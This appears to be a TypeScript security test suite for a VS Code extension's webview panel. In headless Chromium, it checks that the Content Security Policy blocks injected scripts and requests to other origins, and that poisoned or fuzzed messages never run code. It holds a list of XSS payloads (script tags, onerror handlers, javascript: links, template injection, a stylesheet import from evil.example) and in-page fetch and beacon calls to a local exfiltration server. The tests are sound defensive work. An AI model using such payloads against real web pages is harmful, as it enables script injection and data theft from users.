// The panel in Chromium under attack: does the CSP really stop what it says it stops, and does any
// message — valid in shape but carrying markup, links and script in every text field, or malformed —
// ever make the page run code or create live links? The webview helper's tests prove the everyday
// cases (a <script> in a log line, a javascript: claim, a handful of bad messages); these push the
// same page with what an attacker would try next. Reuses the helper's message fixtures.
import { createServer, type Server } from 'node:http';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import * as esbuild from 'esbuild';
import { chromiumPath } from '../support/chromium';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderPanelHtml } from '../../src/webview/page';
import { isAllowedExternalUrl, parseHostMessage } from '../../src/protocol';
import { CLAIMS, LOOKUP, LOOKUP_RESULTS, RESPONSE, scanMessage, timelineMessage } from '../webview/fixtures';
import { anyValue } from '../fuzz/arbitraries';

const ROOT = resolve(__dirname, '../..');

/** Payloads that run code or navigate if any text ever becomes markup, a handler or a link. */
const PAYLOADS = [
  '<script>window.__pwned="script"</script>',
  '<img src=x onerror="window.__pwned=\'img\'">',
  'javascript:window.__pwned="url"',
  '"><svg onload="window.__pwned=\'svg\'">',
  "'><iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\">",
  '[click](javascript:window.__pwned="md")',
  '<a href="javascript:window.__pwned=\'a\'">link</a>',
  '{{constructor.constructor("window.__pwned=\'tpl\'")()}}',
  '${window.__pwned="tmpl"}',
  '<style>@import "http://evil.example/x.css"</style>',
  '\u202e<b>rtl</b>',
];

/** Fields whose values are enums or identifiers the page switches on; everything else is text. */
const KEEP = new Set(['type', 'view', 'category', 'appAction', 'actor', 'source', 'outcome', 'kind', 'decision', 'tokenType', 'version', 'status', 'level', 'endpoint']);

/** `message` with every free-text string replaced by a payload (and URLs too: the page must check them). */
function poison(value: unknown, pick: () => string, key = ''): unknown {
  if (typeof value === 'string') return KEEP.has(key) ? value : pick();
  if (Array.isArray(value)) return value.map((v) => poison(v, pick, key));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, pick, k)]));
  return value;
}

let browser: Browser;
let server: Server;
let origin = '';
let evilOrigin = '';
let evil: Server;
let evilHits = 0;
let bundleDir = '';

function fakeVsCodeApi(): string {
  return `(() => {
    const w = window;
    w.__posted = [];
    w.__violations = [];
    w.__pwned = undefined;
    w.acquireVsCodeApi = () => ({
      postMessage: (m) => { w.__posted.push(JSON.parse(JSON.stringify(m))); },
      getState: () => undefined,
      setState: () => undefined,
    });
    document.addEventListener('securitypolicyviolation', (e) => { w.__violations.push(e.violatedDirective); });
  })();`;
}

// Browser-side code is written as strings: this file is type-checked for Node, not the DOM.
async function inPage<T>(page: Page, expression: string): Promise<T> {
  return (await page.evaluate(expression)) as T;
}

async function post(page: Page, message: unknown): Promise<void> {
  await inPage(page, `window.postMessage(${JSON.stringify(message)}, '*')`);
}

async function openPage(): Promise<Page> {
  const page = await browser.newPage();
  await page.addInitScript({ content: fakeVsCodeApi() });
  await page.goto(origin);
  await page.waitForFunction("window.__posted.some((m) => m.type === 'ready')");
  return page;
}

beforeAll(async () => {
  // A private bundle of the current sources, so this file never races another build of dist/webview.
  bundleDir = mkdtempSync(join(tmpdir(), 'auth-lens-webview-'));
  await esbuild.build({ absWorkingDir: ROOT, entryPoints: ['src/webview/main.ts'], outfile: join(bundleDir, 'main.js'), bundle: true, platform: 'browser', format: 'iife', target: 'es2022', logLevel: 'error' });
  // A second origin that counts every request: anything reaching it is an exfiltration.
  evil = createServer((_req, res) => {
    evilHits++;
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('window.__pwned = "evil-origin";');
  });
  await new Promise<void>((ok) => evil.listen(0, '127.0.0.1', ok));
  evilOrigin = `http://localhost:${(evil.address() as AddressInfo).port}`;
  server = createServer((req, res) => {
    const here = `http://${req.headers.host}`;
    const path = new URL(req.url ?? '/', here).pathname;
    if (path === '/') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(
        renderPanelHtml({ cspSource: here, nonce: randomBytes(16).toString('base64'), scriptUri: `${here}/main.js`, styleUris: [`${here}/media/panel.css`] }),
      );
    } else if (path === '/main.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' }).end(readFileSync(join(bundleDir, 'main.js')));
    } else if (path === '/media/panel.css' && existsSync(join(ROOT, 'media/panel.css'))) {
      res.writeHead(200, { 'content-type': 'text/css' }).end(readFileSync(join(ROOT, 'media/panel.css')));
    } else if (path === '/same-origin.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' }).end('window.__pwned = "same-origin script without nonce";');
    } else res.writeHead(404).end();
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await chromium.launch({
    executablePath: chromiumPath(),
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await new Promise<void>((ok) => (server ? server.close(() => ok()) : ok()));
  await new Promise<void>((ok) => (evil ? evil.close(() => ok()) : ok()));
  if (bundleDir) rmSync(bundleDir, { recursive: true, force: true });
});

describe('the CSP is enforced, not just declared', () => {
  it('scripts without the nonce, inline handlers, javascript: URLs, frames and requests to other origins are all blocked', async () => {
    const page = await openPage();
    const results = await inPage<Record<string, string>>(
      page,
      `(async (evilUrl) => {
      const w = window;
      const out = {};
      const inline = document.createElement('script');
      inline.textContent = 'window.__pwned = "inline"';
      document.body.append(inline);
      const sameOrigin = document.createElement('script');
      sameOrigin.src = '/same-origin.js';
      document.body.append(sameOrigin);
      const external = document.createElement('script');
      external.src = \`\${evilUrl}/x.js\`;
      document.body.append(external);
      const dataScript = document.createElement('script');
      dataScript.src = 'data:text/javascript,window.__pwned="data"';
      document.body.append(dataScript);
      document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror="window.__pwned=1"><svg onload="window.__pwned=2"></svg>');
      const a = document.createElement('a');
      a.href = 'javascript:window.__pwned="href"';
      document.body.append(a);
      a.click();
      const frame = document.createElement('iframe');
      frame.src = \`\${evilUrl}/frame\`;
      document.body.append(frame);
      const style = document.createElement('link');
      style.rel = 'stylesheet';
      style.href = \`\${evilUrl}/x.css\`;
      document.head.append(style);
      const img = new Image();
      img.src = \`\${evilUrl}/pixel.png\`;
      out.fetch = await fetch(\`\${evilUrl}/exfiltrate\`).then(
        () => 'reached',
        () => 'blocked',
      );
      out.beacon = String(navigator.sendBeacon(\`\${evilUrl}/beacon\`, 'x'));
      await new Promise((ok) => setTimeout(ok, 500));
      out.pwned = String(w.__pwned);
      return out;
    })(${JSON.stringify(evilOrigin)})`,
    );
    expect(results.fetch).toBe('blocked');
    expect(results.pwned).toBe('undefined');
    expect(evilHits).toBe(0);
    const violations = await inPage<string[]>(page, 'window.__violations');
    for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src', 'style-src-elem', 'img-src']) expect(violations, directive).toContain(directive);
    await page.close();
  });
});

describe('hostile messages', () => {
  it('every text field of every view carrying markup, script and links: nothing runs, no live link or element appears', async () => {
    const page = await openPage();
    const base = [RESPONSE, LOOKUP, LOOKUP_RESULTS, CLAIMS, timelineMessage(4, true), scanMessage()];
    let i = 0;
    const pick = () => PAYLOADS[i++ % PAYLOADS.length]!;
    const poisoned = base.flatMap((m) => [poison(m, pick), poison(m, pick), poison(m, pick)]);
    const accepted = poisoned.filter((m) => parseHostMessage(m) !== undefined).length;
    // Most poisoned messages are still valid protocol messages: the page must render them, as text.
    expect(accepted).toBeGreaterThanOrEqual(base.length * 2);
    for (const m of poisoned) await post(page, m);
    await inPage(page, 'new Promise((ok) => setTimeout(ok, 300))');
    const state = await inPage<{ pwned: string; dangerous: number; links: string[]; text: string }>(
      page,
      `({
        pwned: String(window.__pwned),
        dangerous: document.querySelectorAll('#app script, #app iframe, #app object, #app embed, #app svg[onload], #app [onerror], #app [onload], #app [onclick], #app style, #app img[src^="javascript"]').length,
        links: [...document.querySelectorAll('#app a[href]')].map((a) => a.getAttribute('href') ?? ''),
        text: document.getElementById('app')?.textContent ?? '',
      })`,
    );
    expect(state.pwned).toBe('undefined');
    expect(state.dangerous).toBe(0);
    for (const href of state.links) expect(isAllowedExternalUrl(href), href).toBe(true);
    // The payloads are on screen as text (at least some of them, in whatever view is showing).
    expect(PAYLOADS.some((p) => state.text.includes(p))).toBe(true);
    expect(evilHits).toBe(0);
    await page.close();
  });

  it('fuzzed and malformed messages are dropped and logged one for one; nothing runs', async () => {
    const page = await openPage();
    const junk = fc.sample(
      fc.oneof(
        anyValue().filter((v) => {
          try {
            return JSON.stringify(v) !== undefined && typeof v !== 'function' && typeof v !== 'symbol';
          } catch {
            return false;
          }
        }),
        fc.record({ type: fc.constantFrom('show', 'error', 'lookupResults', 'eval', 'html'), view: fc.constantFrom('response', 'scan', 'claims', 'x'), message: fc.constantFrom(...PAYLOADS), html: fc.constantFrom(...PAYLOADS) }, { requiredKeys: ['type'] }),
      ),
      { numRuns: 150, seed: 11 },
    );
    // What structured clone can carry (postMessage) and the protocol refuses.
    const rejected = junk.filter((m) => {
      try {
        structuredClone(m);
      } catch {
        return false;
      }
      return parseHostMessage(m) === undefined;
    });
    const logsBefore = await inPage<number>(page, "window.__posted.filter((m) => m.type === 'log').length");
    // Sent with structured clone from inside the page, as VS Code delivers messages (not via JSON).
    for (const m of rejected) await page.evaluate((message) => (globalThis as unknown as { postMessage(m: unknown, o: string): void }).postMessage(message, '*'), m);
    await page.waitForFunction(`window.__posted.filter((m) => m.type === 'log').length >= ${logsBefore + rejected.length}`, undefined, { timeout: 10_000 });
    const state = await inPage<{ pwned: string; logs: number; dangerous: number }>(
      page,
      `({
        pwned: String(window.__pwned),
        logs: window.__posted.filter((m) => m.type === 'log').length,
        dangerous: document.querySelectorAll('#app script, #app iframe, #app [onerror], #app [onload]').length,
      })`,
    );
    expect(state.logs - logsBefore).toBe(rejected.length);
    expect(state.pwned).toBe('undefined');
    expect(state.dangerous).toBe(0);
    expect(rejected.length).toBeGreaterThan(100);
    await page.close();
  });
});
